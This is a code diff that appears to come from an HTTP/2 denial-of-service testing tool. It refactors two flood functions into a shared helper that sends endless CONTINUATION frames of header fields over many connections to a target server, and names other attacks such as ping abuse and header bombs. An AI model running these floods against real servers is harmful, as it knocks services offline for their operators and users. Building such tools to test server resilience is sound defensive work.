@@ -185,22 +185,27 @@ def ping_abuse(target, scale=1):
     return on_connections(6, attack)
 
 
-def continuation_flood(target, scale=1):
-    """Headers that go on in CONTINUATION frames without end."""
-    # A literal without indexing: `x-nothing` with a value of 100 bytes.
-    field = b"\x00\x09x-nothing\x64" + b"v" * 100
+def endless_headers(target, field, frames, connections):
+    """Headers of this field over and over, in CONTINUATION frames without end."""
     frame = ContinuationFrame(1, field * (FRAME // len(field))).serialize()
 
     def attack(seen):
         with contextlib.closing(Connection(target, seen=seen)) as connection:
             connection.greet()
             connection.send(HeadersFrame(1, connection.block(GET_SITE)))
-            for _ in range(1000 * scale):
+            for _ in range(frames):
                 connection.send(frame)
                 connection.receive(0)
             hold(connection, HOLD_SECONDS)
 
-    return on_connections(6, attack)
+    return on_connections(connections, attack)
+
+
+def continuation_flood(target, scale=1):
+    """Headers that go on in CONTINUATION frames without end."""
+    # A literal without indexing: `x-nothing` with a value of 100 bytes.
+    field = b"\x00\x09x-nothing\x64" + b"v" * 100
+    return endless_headers(target, field, 1000 * scale, connections=6)
 
 
 def header_bombs(target, scale=1):
@@ -222,18 +227,7 @@ def header_bombs(target, scale=1):
 
 def one_byte_fields(target, scale=1):
     """Header fields of one byte each, without end."""
-    frame = ContinuationFrame(1, b"\x82" * FRAME).serialize()
-
-    def attack(seen):
-        with contextlib.closing(Connection(target, seen=seen)) as connection:
-            connection.greet()
-            connection.send(HeadersFrame(1, connection.block(GET_SITE)))
-            for _ in range(MIB * scale // FRAME):
-                connection.send(frame)
-                connection.receive(0)
-            hold(connection, HOLD_SECONDS)
-
-    return on_connections(20, attack)
+    return endless_headers(target, b"\x82", MIB * scale // FRAME, connections=20)
 
 
 def open_calls(target, scale=1):
